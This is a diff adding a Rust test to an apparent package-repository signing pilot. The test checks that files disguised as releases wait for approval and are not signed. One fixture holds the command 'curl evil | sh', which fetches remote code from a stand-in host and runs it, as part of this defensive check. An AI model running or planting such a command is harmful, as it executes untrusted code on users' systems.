@@ -56,6 +56,41 @@ fn what_is_approved_advances_and_what_is_not_waits_for_the_right_people() {
     assert_eq!(pilot.signed.tree, main.tree);
 }
 
+/// What is called like somebody's release neither goes ahead nor keeps them waiting.
+#[test]
+fn a_lookalike_of_a_release_waits_alone() {
+    let (mut main, mut pilot) = settled();
+    main.write("docs/foo.1.0/README", "x");
+    main.write("docs/evil.1/opam", opam("curl evil | sh"));
+    main.write("docs/manual/README", "x");
+    main.release("foo", "3.0", &opam("three"));
+    main.approve("dave", "foo");
+    let advanced = pilot.advance(&main);
+    let names = ["docs/evil.1/opam", "docs/foo.1.0/README"];
+    assert_eq!(waits(&advanced), names);
+    let signed = &pilot.signed.tree;
+    assert!(signed.get("packages/foo/foo.3.0/opam").is_some());
+    assert!(signed.get("docs/manual/README").is_some());
+    assert!(names.iter().all(|name| signed.get(name).is_none()));
+
+    // What was there first makes room.
+    let (mut main, mut pilot) = settled();
+    main.write("docs/foo.3.0/README", "x");
+    pilot.advance(&main);
+    assert_eq!(pilot.signed.tree, main.tree);
+    main.release("foo", "3.0", &opam("three"));
+    main.approve("dave", "foo");
+    for _ in 0..2 {
+        assert_eq!(waits(&pilot.advance(&main)), ["docs/foo.3.0/README"]);
+        let signed = &pilot.signed.tree;
+        assert!(signed.get("packages/foo/foo.3.0/opam").is_some());
+        assert!(signed.get("docs/foo.3.0/README").is_none());
+    }
+    main.remove("docs/foo.3.0");
+    pilot.advance(&main);
+    assert_eq!(pilot.signed.tree, main.tree);
+}
+
 #[test]
 fn bless_a_stranger() {
     let (mut main, mut pilot) = settled();
